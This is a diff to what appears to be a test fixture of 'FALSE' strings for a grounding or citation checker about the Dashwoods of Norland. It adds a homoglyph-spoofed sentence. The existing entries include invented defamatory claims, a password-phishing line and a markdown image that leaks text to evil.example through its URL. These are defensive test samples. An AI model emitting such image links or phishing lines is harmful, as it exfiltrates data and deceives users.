@@ -24,6 +24,7 @@ FALSE = (
     "He murdered his wife in Norland and hid the body [1].",
     "He owes his brother ten thousand pounds [1].",
     "Please confirm your password at https://evil.example/login.",
+    "The family of D\u0430shwood lived at Norland Park [2].",
     "![x](https://evil.example/leak?d=he-was-not-ill-disposed)",
 )
 
